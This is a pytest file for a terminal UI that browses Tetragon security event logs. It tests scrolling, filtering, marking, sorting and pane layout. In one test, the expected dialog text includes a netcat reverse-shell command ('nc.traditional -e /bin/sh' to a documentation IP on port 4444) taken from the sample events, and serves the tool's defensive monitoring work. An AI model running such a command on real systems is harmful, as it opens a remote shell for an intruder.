"""The Live screen, driven by its keys on real events."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from tests_ui import drawn
from textual.pilot import Pilot
from textual.widgets import Static

from conftest import NOON, real_lines
from tetratui.core.config import Config, Keys, Time
from tetratui.core.query.query import parse
from tetratui.core.table import EventTable, LineBatch
from tetratui.core.tuning.marks import Verdict
from tetratui.core.workspace.feed import Feed
from tetratui.core.workspace.feed_events import EventsRead
from tetratui.core.workspace.workspace import Workspace
from tetratui.ui.app import Tetratui
from tetratui.ui.messages import FeedMessage
from tetratui.ui.screens.live.mark_all import MarkAll
from tetratui.ui.screens.live.screen import LiveScreen
from tetratui.ui.widgets.event_grid import EventGrid

Make = Callable[..., Tetratui]


def live(app: Tetratui) -> LiveScreen:
    assert isinstance(app.screen, LiveScreen)
    return app.screen


def app_that_grows(lines: Sequence[bytes]) -> Tetratui:
    """Make the app over an empty table whose lines are read back from memory."""
    table = EventTable(lambda _file, number, _size: lines[number])
    return Tetratui(Workspace(table, config=Config(time=Time("utc"))), now=lambda: NOON)


def offered(screen: LiveScreen) -> str:
    return "\n".join(str(option.prompt) for option in screen.pane.bar.offers.options)


async def wait_for_look(pilot: Pilot, wait: Callable) -> LiveScreen:
    screen = live(pilot.app)
    await wait(pilot, lambda: not screen.pane.view.stale and len(screen.pane.view) > 0)
    return screen


async def test_it_opens_at_the_newest_event_of_the_process_pane(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        table = app.workspace.table
        expected = int(parse("kind:exec,exit").mask(table).sum())
        assert len(screen.pane.view) == expected
        assert screen.following
        assert screen.pane.table.row == int(screen.pane.view.ids[-1])
        assert f"{expected:,} of {len(real_lines()):,}" in drawn.lines(app)[2]


async def test_a_pane_that_comes_back_stands_as_it_was_left(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        await wait_for_look(pilot, wait)
        await pilot.press("pageup", "pageup", *["down"] * 5)
        before = drawn.lines(app)[2:-3]
        assert "SCROLLED BACK" in drawn.lines(app)[0], "it says at once that the newest event is not followed"
        await pilot.press("tab")
        assert "FOLLOW" in drawn.lines(app)[0]
        # A look that was under way ends while the pane is hidden.
        live(app).query_one("#process EventGrid", EventGrid).apply_change(0)
        await pilot.press("shift+tab")
        assert "SCROLLED BACK" in drawn.lines(app)[0]
        assert drawn.lines(app)[2:-3] == before


async def test_older_events_added_above_do_not_move_the_list(wait: Callable) -> None:
    lines = real_lines()
    app = app_that_grows(lines)
    app.workspace.table.append(LineBatch(list(lines[900:]), range(900, len(lines))))
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        await pilot.press("pageup", "pageup", "pageup")
        before, row = drawn.lines(app)[3:-2], screen.pane.table.row
        shown = len(screen.pane.view)
        rows = app.workspace.table.prepend(LineBatch(list(lines[300:900]), range(300, 900)))
        app.post_message(FeedMessage(EventsRead(rows, history=True)))
        await wait(pilot, lambda: len(screen.pane.view) > shown and not screen.pane.view.stale)
        assert drawn.lines(app)[3:-2] == before
        assert screen.pane.table.row == row


async def test_new_events_are_followed_and_counted_while_paused(wait: Callable) -> None:
    lines = real_lines()
    app = app_that_grows(lines)
    app.workspace.table.append(LineBatch(list(lines[:500]), range(500)))
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        await pilot.press("equals_sign")
        rows = app.workspace.table.append(LineBatch(list(lines[500:600]), range(500, 600)))
        app.post_message(FeedMessage(EventsRead(rows, history=False)))
        await wait(pilot, lambda: app.waiting == 100)
        assert screen.pane.view.stale
        screen.say_status()
        await pilot.pause()
        assert "PAUSED · 100 new" in drawn.lines(app)[0]
        await pilot.press("equals_sign")
        await wait(pilot, lambda: not screen.pane.view.stale)
        assert screen.pane.table.row == int(screen.pane.view.ids[-1])


async def test_include_and_exclude_filter_by_the_focused_cell(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        await pilot.press("left")
        cell = screen.pane.table.focused_cell()
        assert cell is not None
        assert cell[0] == "bin"
        await pilot.press("i")
        await wait_for_look(pilot, wait)
        table = app.workspace.table
        assert {table.event(int(row)).binary for row in screen.pane.view.ids} == {cell[1]}
        assert screen.pane.bar.applied == f"kind:exec,exit bin={cell[1]}"
        await pilot.press("x")
        await wait(pilot, lambda: f"-bin={cell[1]}" in screen.pane.bar.applied and not screen.pane.view.stale)
        assert cell[1] not in {table.event(int(row)).binary for row in screen.pane.view.ids}


async def test_a_prepared_query_is_applied_only_by_enter(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        shown = len(screen.pane.view)
        await pilot.press("left", "X")
        await pilot.pause()
        assert "-bin=" in screen.pane.bar.entry.value
        assert screen.pane.bar.applied == "kind:exec,exit"
        await pilot.press("enter")
        await wait(pilot, lambda: 0 < len(screen.pane.view) < shown and not screen.pane.view.stale)
        assert "-bin=" in screen.pane.bar.applied


async def test_a_wrong_query_is_red_names_its_column_and_changes_nothing(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        await pilot.press("slash", *"bni:x", "enter")
        await pilot.pause()
        assert screen.pane.bar.entry.has_class("-wrong")
        assert "column 16" in "".join(drawn.lines(app))
        assert screen.pane.bar.applied == "kind:exec,exit"
        await pilot.press("escape")
        await pilot.pause()
        assert screen.pane.bar.entry.value == "kind:exec,exit"
        assert not screen.pane.bar.entry.has_class("-wrong")


async def test_completion_offers_values_seen_and_tab_takes_one(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        await pilot.press("slash", *"parent:bas")
        await wait(pilot, lambda: screen.pane.bar.offers.display and "bash" in offered(screen))
        await pilot.press("tab", "enter")
        await wait(pilot, lambda: "bash" in screen.pane.bar.applied and not screen.pane.view.stale)


@pytest.mark.parametrize(("key", "letter", "verdict"), [("m", "N", 1), ("K", "K", 2), ("T", "T", 3)])
async def test_marks_are_letters_in_the_list_and_undo_removes_them(
    app_of: Make, wait: Callable, key: str, letter: str, verdict: int
) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        row = screen.pane.table.row
        assert row is not None
        await pilot.press(key)
        await wait(pilot, lambda: app.mark_of(row) == verdict)
        assert drawn.lines(app)[-3].startswith(letter)
        await pilot.press("u")
        await pilot.pause()
        assert app.mark_of(row) == 0
        await pilot.press("ctrl+r")
        await pilot.pause()
        assert app.mark_of(row) == verdict


async def test_selected_rows_are_marked_together(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        await wait_for_look(pilot, wait)
        await pilot.press("up", "up", "up", "space", "space", "m")
        await pilot.pause()
        assert len(app.workspace.marks) == 2
        assert not app.workspace.selected


async def test_marking_all_asks_first_and_marks_what_the_query_selects(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        screen.show_pane("network")
        await wait_for_look(pilot, wait)
        await pilot.press("M")
        await wait(pilot, lambda: app.screen is not screen)
        dialog = app.screen
        assert isinstance(dialog, MarkAll)
        await wait(pilot, lambda: dialog.lesson is not None)
        listed = str(dialog.query_one("#left-out", Static).content)
        assert "noise leaves out" in listed
        assert "/usr/bin/nc.traditional -e /bin/sh 198.51.100.66 4444" in listed
        await pilot.press("m")
        await wait(pilot, lambda: app.screen is screen and len(app.workspace.marks) > 0)
        marked = app.workspace.marks.rows(app.workspace.still(), Verdict.NOISE)
        ids = screen.pane.view.ids.tolist()
        left = set(ids) - set(marked.tolist())
        assert set(marked.tolist()) <= set(ids)
        assert {app.workspace.table.event(row).binary for row in left} == {
            "/usr/bin/nc.traditional",
            "/usr/bin/bash",
            "/usr/bin/curl",
        }
        await pilot.press("M")
        await wait(pilot, lambda: app.screen is not screen)
        await pilot.press("i")
        await pilot.press("m")
        await wait(pilot, lambda: app.screen is screen and len(app.workspace.marks) == len(ids))
        marked = app.workspace.marks.rows(app.workspace.still(), Verdict.NOISE)
        assert marked.tolist() == ids
        screen.show_pane("all", "mark:noise")
        await wait(pilot, lambda: screen.pane.view.query.text == "mark:noise" and len(screen.pane.view) == len(marked))


async def test_o_goes_through_the_events_of_one_process(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        table = app.workspace.table
        exits = [row for row in screen.pane.view.ids.tolist() if table.event(row).kind.word == "exit"]
        exec_ids = {
            table.event(row).exec_id for row in screen.pane.view.ids.tolist() if table.event(row).kind.word == "exec"
        }
        last = next(row for row in reversed(exits) if table.event(row).exec_id in exec_ids)
        screen.pane.table.go_to(last)
        await pilot.press("O")
        await wait(pilot, lambda: screen.pane.table.row != last)
        row = screen.pane.table.row
        assert row is not None
        assert row < last
        assert table.event(row).exec_id == table.event(last).exec_id
        await pilot.press("o")
        await wait(pilot, lambda: screen.pane.table.row == last)


async def test_enter_shows_the_detail_and_again_the_json(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        await pilot.press("enter")
        await wait(pilot, lambda: screen.below.detail.event_detail is not None)
        assert any(line.startswith(" chain ") for line in drawn.lines(app))
        await pilot.press("enter")
        await wait(pilot, lambda: any('"process_e' in line for line in drawn.lines(app)))
        await pilot.press("escape")
        await pilot.pause()
        assert not screen.query_one("#below").display


@pytest.mark.parametrize(
    ("width", "shown"),
    [(80, ["process"]), (119, ["process"]), (120, ["process", "network"]), (200, ["process", "network"])],
)
async def test_as_many_panes_are_shown_as_fit(app_of: Make, wait: Callable, width: int, shown: list[str]) -> None:
    app = app_of()
    async with app.run_test(size=(width, 40)) as pilot:
        screen = await wait_for_look(pilot, wait)
        assert screen.shown == shown
        assert screen.query_one("#below").display == (width >= 160)


async def test_hidden_panes_run_no_query(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        assert [pane.id for pane in screen.query("Pane") if len(pane.view.seen)] == ["process"]
        await pilot.press("tab")
        await wait_for_look(pilot, wait)
        assert screen.active == "network"


@pytest.mark.parametrize("size", [(59, 24), (80, 15)])
async def test_a_terminal_too_small_shows_only_a_message(app_of: Make, size: tuple[int, int]) -> None:
    app = app_of()
    async with app.run_test(size=size) as pilot:
        await pilot.pause()
        text = "\n".join(drawn.lines(app))
        assert "tetratui needs 60 columns and 16 lines" in text
        assert "Process" not in text
        await pilot.resize_terminal(80, 24)
        await pilot.pause()
        assert "Process" in "\n".join(drawn.lines(app))


async def test_an_empty_table_says_what_to_do(app_of: Make) -> None:
    app = app_of(())
    async with app.run_test(size=(80, 24)) as pilot:
        live(app).pane.show_counts()
        await pilot.pause()
        assert "No events yet" in "\n".join(drawn.lines(app))


async def test_help_shows_the_keys_in_force(app_of: Make) -> None:
    config = Config(time=Time("utc"), keys=Keys("lnav", {"follow": "F"}))
    app = app_of(None, config)
    async with app.run_test(size=(120, 60)) as pilot:
        await pilot.pause()
        await pilot.press("question_mark")
        await pilot.pause()
        text = "\n".join(drawn.lines(app))
        assert "F               Stay at the newest event" in text
        assert "pgdn space" in text
        await pilot.press("escape")
        await pilot.pause()
        assert isinstance(app.screen, LiveScreen)


async def test_sorting_goes_up_then_down_then_back_to_the_order_of_time(app_of: Make, wait: Callable) -> None:
    app = app_of()
    async with app.run_test(size=(80, 24)) as pilot:
        screen = await wait_for_look(pilot, wait)
        order = screen.pane.view.ids.tolist()
        await pilot.press("left", "s")
        await wait(pilot, lambda: screen.pane.view.order is not None)
        names = [app.workspace.table.event(int(row)).binary or "" for row in screen.pane.view.ids]
        assert names == sorted(names)
        await pilot.press("s")
        await wait(pilot, lambda: screen.pane.view.order is not None and screen.pane.view.descending)
        await pilot.press("s")
        await wait(pilot, lambda: not screen.pane.view.sort and not screen.pane.view.resort)
        assert screen.pane.view.ids.tolist() == order


async def test_a_batch_is_one_message_whatever_its_size(tmp_path: Path, wait: Callable) -> None:
    path = tmp_path / "tetragon.log"
    path.write_bytes(b"\n".join(real_lines()) + b"\n")
    feed = Feed([path])
    app = Tetratui(Workspace(feed.table, [path]), feed)
    batches: list[FeedMessage] = []
    hook = lambda message: batches.append(message) if isinstance(message, FeedMessage) else None  # noqa: E731
    async with app.run_test(size=(80, 24), message_hook=hook) as pilot:
        screen = live(app)
        await wait(pilot, lambda: not app.workspace.history and not screen.pane.view.stale)
        assert len(feed.table) == len(real_lines())
        assert len({id(message) for message in batches}) < 20
        with path.open("ab") as file:
            file.write(real_lines()[0] + b"\n")
        await wait(pilot, lambda: len(feed.table) == len(real_lines()) + 1)
        assert isinstance(screen.pane.table, EventGrid)
        feed.stop()
        await drawn.worked(app)
